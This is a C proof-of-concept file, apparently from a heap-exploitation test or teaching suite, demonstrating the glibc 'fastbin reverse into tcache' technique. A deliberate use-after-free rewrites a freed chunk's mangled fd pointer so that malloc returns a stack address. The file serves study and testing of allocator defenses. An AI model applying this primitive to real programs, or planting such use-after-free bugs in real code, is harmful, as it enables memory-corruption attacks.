/* Technique: fastbin reverse into tcache (how2heap
   fastbin_reverse_into_tcache).

   Goal: malloc returns a chosen address (a stack buffer that carries
   no fake size at all).

   How: with the 0x40 tcache bin full, seven chunks are freed into the
   0x40 fastbin; the first one freed (victim, the tail of the list) gets
   its fd rewritten through a use-after-free to the stack buffer.  The
   tcache is then emptied.  The next malloc takes the fastbin's head and
   moves the rest of the fastbin into the tcache ("stashing"), without
   checking sizes: six heap chunks and then the stack buffer, which ends
   up at the head of the tcache bin.  The malloc after that returns it.
   The fake chunk's fd is a mangled NULL so the fastbin is left empty.  */
#include "attack.h"

int
main (void)
{
  attack_init ("fastbin_reverse_into_tcache: fastbin fd rewritten, stashing moves the stack chunk into the tcache");
  _Alignas (16) size_t stack_var[8] = { 0 };
  size_t *ptrs[14];
  for (int i = 0; i < 14; i++)
    ptrs[i] = malloc (0x38);
  say ("chunks %p .. %p stack chunk %p", ptrs[0], ptrs[13], stack_var);
  for (int i = 0; i < 7; i++)
    free (ptrs[i]);		/* tcache 0x40 full */
  size_t *victim = ptrs[7];
  free (victim);		/* fastbin tail */
  for (int i = 8; i < 14; i++)
    free (ptrs[i]);

  victim[0] = PROTECT_PTR (&victim[0], stack_var);	/* use after free */
  stack_var[2] = PROTECT_PTR (&stack_var[2], 0);	/* fake fd: end of list */

  for (int i = 0; i < 7; i++)
    malloc (0x38);		/* empty the tcache */
  void *head = malloc (0x38);	/* fastbin head; the rest is stashed */
  void *p = malloc (0x38);
  say ("malloc = %p, then %p", head, p);
  if (p == (void *) &stack_var[2])
    reached ("malloc returned the stack address %p", p);
  no_effect ("malloc returned %p, not %p", p, &stack_var[2]);
}
